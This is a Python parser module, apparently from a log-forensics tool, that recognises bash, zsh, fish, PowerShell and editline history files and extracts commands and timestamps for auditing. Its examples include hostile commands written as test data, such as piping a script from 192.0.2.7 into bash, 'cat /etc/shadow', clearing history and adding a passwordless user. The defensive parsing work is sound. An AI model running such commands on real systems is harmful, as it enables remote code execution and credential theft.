r"""Shell histories: bash, zsh, fish, PowerShell, and those of editline.

* bash with HISTTIMEFORMAT (bash's lib/readline/histfile.c): a comment with the epoch, then the command.
  tcsh puts a plus before it (tcsh's sh.hist.c).
* zsh with EXTENDED_HISTORY (zshoptions(1), Src/hist.c): ``: BEGAN:SECONDS;command``; a line end within it is
  written behind a backslash, and bytes that mean something to zsh are *metafied*: 0x83, then the byte xor 32.
* fish (src/history.cpp): ``- cmd: command`` with ``\n`` and ``\\``, indented lines ``when:`` and ``paths:`` behind it.
* PowerShell's PSReadLine (``ConsoleHost_history.txt``): a command a line, a backtick at the end where it goes on. No times.
* plain lines (bash without times, sh, ksh's text): a command a line, no times: kept in order. What makes such a file
  known is that most lines begin with a command that people type.
* editline (mysql, sqlite3, psql on some systems): ``_HiStOrY_V2_``, then lines with ``\040`` for a blank.

A history does not say whose it is: the home that the file lies in does.
"""

from __future__ import annotations

import re
from typing import Any, ClassVar

from logscope.parsing.format import Continuation, Example, Format, Reading, Sample
from logscope.parsing.rule import Fields
from logscope.parsing.shell_commands import first_word, read_command

_STAMP = re.compile(r"#(?P<tcsh>\+)?(?P<epoch>1\d{9}|[89]\d{8})\s*$")
# Lines that begin so belong to the command before them.
_GOES_ON = re.compile(r"[ \t})|&]|(?:done|fi|esac|then|do|else|elif|in|EOF|EOT|END)\b(?![-=./])")
# Commands that nearly every history has, and hardly any log begins its lines with.
_TYPED = frozenset(
    [
        "ls",
        "ll",
        "la",
        "cd",
        "pwd",
        "cat",
        "less",
        "more",
        "head",
        "tail",
        "vi",
        "vim",
        "nano",
        "emacs",
        "rm",
        "cp",
        "mv",
        "mkdir",
        "rmdir",
        "touch",
        "chmod",
        "chown",
        "chgrp",
        "ln",
        "find",
        "grep",
        "egrep",
        "awk",
        "sed",
        "sort",
        "uniq",
        "cut",
        "wc",
        "diff",
        "tar",
        "gzip",
        "gunzip",
        "zip",
        "unzip",
        "curl",
        "wget",
        "ssh",
        "scp",
        "sftp",
        "rsync",
        "ping",
        "nc",
        "ncat",
        "nmap",
        "dig",
        "nslookup",
        "host",
        "netstat",
        "ss",
        "ip",
        "ifconfig",
        "route",
        "iptables",
        "ufw",
        "firewall-cmd",
        "ps",
        "top",
        "htop",
        "kill",
        "pkill",
        "killall",
        "whoami",
        "id",
        "w",
        "who",
        "last",
        "uname",
        "hostname",
        "uptime",
        "df",
        "du",
        "free",
        "mount",
        "umount",
        "fdisk",
        "lsblk",
        "dmesg",
        "journalctl",
        "systemctl",
        "service",
        "apt",
        "apt-get",
        "aptitude",
        "dpkg",
        "yum",
        "dnf",
        "rpm",
        "apk",
        "pacman",
        "zypper",
        "snap",
        "pip",
        "pip3",
        "npm",
        "yarn",
        "git",
        "make",
        "gcc",
        "python",
        "python3",
        "perl",
        "ruby",
        "php",
        "node",
        "java",
        "bash",
        "sh",
        "zsh",
        "su",
        "sudo",
        "doas",
        "exit",
        "logout",
        "clear",
        "history",
        "export",
        "echo",
        "source",
        "alias",
        "which",
        "whereis",
        "man",
        "screen",
        "tmux",
        "crontab",
        "useradd",
        "adduser",
        "usermod",
        "userdel",
        "passwd",
        "groups",
        "docker",
        "docker-compose",
        "podman",
        "kubectl",
        "helm",
        "terraform",
        "ansible",
        "aws",
        "gcloud",
        "az",
        "mysql",
        "psql",
        "sqlite3",
        "mongo",
        "redis-cli",
        "openssl",
        "base64",
        "xxd",
        "file",
        "strings",
        "chattr",
        "lsattr",
        "nohup",
        "watch",
        "env",
        "printenv",
        "test",
        "for",
        "while",
        "if",
        "lsof",
        "stat",
        "tree",
        "tee",
        "xargs",
        "ssh-keygen",
        "ssh-copy-id",
        "reboot",
        "shutdown",
        "date",
        "jobs",
        "fg",
        "bg",
        "unset",
        "set",
        "./",
    ]
)
# ``update-alternatives 2026-01-03 14:05:22: ...``: a program's own log, which looks like a verb and a noun
_STAMPED = re.compile(r"[\w-]+ \d{4}-\d\d-\d\d \d\d:")
_CMDLET = re.compile(
    r"(?:\$[A-Za-z_]\w*+ ?= ?|\(|& ?)?(?:Get|Set|New|Remove|Add|Start|Stop|Restart|Invoke|Import|Export|Test|Enter|Exit|Enable|Disable|"
    r"Install|Uninstall|Update|Write|Out|Select|Where|Copy|Move|Clear|Connect|Find|Expand|Compress|Register|Unregister|Resolve|Rename)-[A-Z][A-Za-z]++\b",
    re.IGNORECASE,
)
_TYPED_ON_WINDOWS = frozenset(
    [
        "cd",
        "dir",
        "cls",
        "ls",
        "ipconfig",
        "whoami",
        "net",
        "netstat",
        "ping",
        "type",
        "copy",
        "del",
        "exit",
        "systeminfo",
        "tasklist",
        "taskkill",
        "reg",
        "sc",
        "schtasks",
        "nslookup",
        "hostname",
        "powershell",
        "pwsh",
        "cmd",
        "notepad",
        "clear",
        "cat",
        "winget",
        "choco",
        "iwr",
        "iex",
        "wmic",
        "quser",
        "nltest",
        "route",
        "arp",
        "tracert",
        "gpupdate",
    ]
)
# The stamp of another kind of log, its level, or a header: no command.
_NO_COMMAND = re.compile(r"[\[<{]|\d{2,}[-/.:]|[A-Z][a-z]{2} [ \d]\d \d\d:|#(?!\d)|\S+=\S+ \S+=")
_ZSH = re.compile(r": {1,10}(?P<stamp>\d{9,10}):(?P<seconds>\d{1,9});(?P<command>.*)", re.DOTALL)
_WHEN = re.compile(r"\n {1,8}when: (\d{9,10})\s*(?:\n|$)")
_ESCAPE = re.compile(r"\\(n|\\)")
_OCTAL = re.compile(r"\\([0-3][0-7]{2})")
_EDITLINE = "_HiStOrY_V2_"
_META = re.compile(r"\x83(.)", re.DOTALL)


class _Untimed(Format):
    """A history without times: known by what people type."""

    continuation: ClassVar[Continuation] = "none"
    by_itself = False
    shell: ClassVar[str] = "shell"

    def begin(self, line: str) -> Any:
        return line if line.strip() and _NO_COMMAND.match(line) is None else None

    def score(self, sample: Sample) -> float:
        lines = [line for line in sample.lines if _STAMP.match(line) is None]
        if not lines:
            return 0.0
        typed = sum(map(self.is_typed, lines))
        if typed < self.fewest or typed < self.least * len(lines):
            return 0.0
        return self.weight * typed / len(lines)

    # one line may be anybody's; so many of the lines must be known
    fewest: ClassVar[int] = 2
    least: ClassVar[float] = 0.4

    def is_typed(self, line: str) -> bool:
        raise NotImplementedError

    def fill(self, begun: Any, text: str, reading: Reading) -> Fields:  # noqa: ARG002  # the text says it all
        fields: Fields = {"message_at": 0}
        read_command(text.rstrip(), self.shell, reading.owner, fields)
        return fields


class ShellHistory(_Untimed):
    """Plain lines."""

    name = "shell_history"
    title = "Shell history without times"
    weight = 0.4
    examples = (
        Example(
            "sudo tail -f /var/log/auth.log",
            {"program": "shell", "command": "sudo tail -f /var/log/auth.log", "action": "shell.command", "outcome": None, "time": None,
             "category": ["audit.activity", "audit.privilege"]},
        ),
        Example("history -c", {"category": ["audit.activity", "os.security"]}),
        Example("sudo -n useradd -m eve", {"category": ["audit.activity", "audit.privilege", "audit.account"]}),
    )  # fmt: skip

    def is_typed(self, line: str) -> bool:
        word = line.partition(" ")[0]  # a shell tells cases apart: "Last" is prose
        return word.rpartition("/")[2] in _TYPED or word.startswith("./")


class PowerShellHistory(_Untimed):
    """``ConsoleHost_history.txt``."""

    name = "powershell_history"
    title = "PowerShell history (PSReadLine)"
    weight = 0.5
    shell = "powershell"
    looks_back = True
    continuation = "any"
    examples = (
        Example(
            "Get-LocalUser | Where-Object Enabled",
            {"program": "powershell", "command": "Get-LocalUser | Where-Object Enabled", "category": ["audit.activity"]},
        ),
        Example("Get-ChildItem `\n  -Recurse", {"command": "Get-ChildItem `\n  -Recurse", "lines": 2}),
        Example("New-LocalUser eve -NoPassword", {"category": ["audit.activity", "audit.account"]}),
    )  # fmt: skip

    def keeps(self, first: str, lines: int, line: str) -> bool:
        return first[-1:] == "`" and (lines == 1 or line[:1] in " \t})")

    def score(self, sample: Sample) -> float:
        if not any(_CMDLET.match(line) and not _STAMPED.match(line) for line in sample.lines):
            return 0.0
        return super().score(sample)

    def is_typed(self, line: str) -> bool:
        return _CMDLET.match(line) is not None or first_word(line).removesuffix(".exe") in _TYPED_ON_WINDOWS  # fmt: skip


class BashHistory(Format):
    """Commands behind the comment that says when."""

    name = "bash_history"
    title = "bash and tcsh history with times"
    continuation = "any"
    looks_back = True
    examples = (
        Example(
            "#1767449122\ncurl -s http://192.0.2.7/x.sh | bash",
            {"time": "2026-01-03T14:05:22.000000Z", "time_basis": "exact", "program": "bash", "action": "shell.command",
             "command": "curl -s http://192.0.2.7/x.sh | bash", "message": "curl -s http://192.0.2.7/x.sh | bash", "category": ["audit.activity"]},
        ),
        Example(
            "#1767449122\nfor i in 1 2; do\n  id\ndone",
            {"command": "for i in 1 2; do\n  id\ndone", "lines": 4},
        ),
        Example("#+1767449122\nls", {"time": "2026-01-03T14:05:22.000000Z", "program": "tcsh", "command": "ls"}),
    )  # fmt: skip

    def begin(self, line: str) -> Any:
        return _STAMP.match(line) if line[:1] == "#" else None

    def keeps(self, first: str, lines: int, line: str) -> bool:  # noqa: ARG002  # all begin alike
        """The command; of the lines behind it those that go on with it. Others were written without a time."""
        if line[:1] == "#" and _STAMP.match(line) is not None:
            return False
        return lines == 1 or _GOES_ON.match(line) is not None

    def score(self, sample: Sample) -> float:
        stamps = sum(1 for line in sample.lines if self.begin(line) is not None)
        return min(1.0, 2.2 * stamps / len(sample.lines)) if stamps else 0.0

    def fill(self, begun: Any, text: str, reading: Reading) -> Fields:
        fields: Fields = {}
        stamp = reading.clock.epoch(begun["epoch"])
        if stamp is not None:
            fields["time"], fields["time_basis"] = stamp
        head, _, command = text.partition("\n")
        fields["message_at"] = min(len(head) + 1, len(text))
        if command.strip():
            read_command(command, "tcsh" if begun["tcsh"] else "bash", reading.owner, fields)
        return fields


class ZshHistory(Format):
    """``: BEGAN:SECONDS;command``."""

    name = "zsh_history"
    title = "zsh history with times"
    continuation = "any"
    examples = (
        Example(
            ": 1767449122:3;sudo su -",
            {"time": "2026-01-03T14:05:22.000000Z", "time_basis": "exact", "program": "zsh", "command": "sudo su -", "seconds": "",
             "message": "sudo su -", "category": ["audit.activity", "audit.privilege"]},
        ),
        Example(": 1767449122:0;for i in 1 2\\\ndo id\\\ndone", {"command": "for i in 1 2\ndo id\ndone"}),
    )  # fmt: skip

    def begin(self, line: str) -> Any:
        return _ZSH.match(line) if line[:2] == ": " else None

    def fill(self, begun: Any, text: str, reading: Reading) -> Fields:  # noqa: ARG002  # matched anew with all its lines
        part = _ZSH.match(text)
        if part is None:
            return {"message_at": 0}
        fields: Fields = {"message_at": part.start("command")}
        stamp = reading.clock.epoch(part["stamp"])
        if stamp is not None:
            fields["time"], fields["time_basis"] = stamp
        if part["seconds"] != "0":
            fields["seconds"] = int(part["seconds"])
        command = "\n".join(
            _unmetafied(line.removesuffix("\\")) for line in part["command"].split("\n")
        )
        if command != part["command"]:
            fields["message"] = command
        read_command(command, "zsh", reading.owner, fields)
        return fields


class FishHistory(Format):
    """``- cmd:`` and ``when:``."""

    name = "fish_history"
    title = "fish history"
    continuation = "indented"
    examples = (
        Example(
            "- cmd: cat /etc/shadow\n  when: 1767449122\n  paths:\n    - /etc/shadow",
            {"time": "2026-01-03T14:05:22.000000Z", "program": "fish", "command": "cat /etc/shadow", "message": "cat /etc/shadow",
             "category": ["audit.activity"]},
        ),
        Example("- cmd: echo a\\nid \\\\n\n  when: 1767449122", {"command": "echo a\nid \\n"}),
    )  # fmt: skip

    def begin(self, line: str) -> Any:
        return line if line[:7] == "- cmd: " else None

    def fill(self, begun: Any, text: str, reading: Reading) -> Fields:
        fields: Fields = {}
        when = _WHEN.search(text)
        stamp = reading.clock.epoch(when[1]) if when is not None else None
        if stamp is not None:
            fields["time"], fields["time_basis"] = stamp
        command = _ESCAPE.sub(lambda found: "\n" if found[1] == "n" else "\\", begun[7:])
        fields["message"] = command
        read_command(command, "fish", reading.owner, fields)
        return fields


class EditlineHistory(Format):
    """Lines behind ``_HiStOrY_V2_``."""

    name = "editline_history"
    title = "History of an editline client (mysql, sqlite3, psql)"
    continuation = "none"
    by_itself = False
    examples = (
        Example(
            "_HiStOrY_V2_\nselect\\040user\\040from\\040mysql.user;",
            {"program": "editline", "command": "select user from mysql.user;", "message": "select user from mysql.user;", "time": None,
             "action": "shell.command", "category": ["audit.activity"]},
        ),
    )  # fmt: skip

    def begin(self, line: str) -> Any:
        return line or None

    def score(self, sample: Sample) -> float:
        return 1.0 if sample.lines and sample.lines[0].rstrip() == _EDITLINE else 0.0

    def fill(self, begun: Any, text: str, reading: Reading) -> Fields | None:  # noqa: ARG002  # the text says it all
        if text.rstrip() == _EDITLINE:
            return None
        command = _as_utf8(_OCTAL.sub(lambda found: chr(int(found[1], 8)), text))
        fields: Fields = {"message": command}
        read_command(command, "editline", reading.owner, fields)
        return fields


def _unmetafied(line: str) -> str:
    """``line`` with zsh's escaped bytes put back: such a line is never UTF-8, and was read as Latin-1."""
    if "\x83" not in line:
        return line
    return _as_utf8(_META.sub(lambda found: chr(ord(found[1]) ^ 32), line))


def _as_utf8(text: str) -> str:
    """The text whose UTF-8 bytes stand in ``text`` as characters; ``text`` where they do not."""
    try:
        return text.encode("latin-1").decode()
    except UnicodeError:
        return text


FORMATS = (
    BashHistory(), ZshHistory(), FishHistory(), PowerShellHistory(), EditlineHistory(), ShellHistory(),
)  # fmt: skip
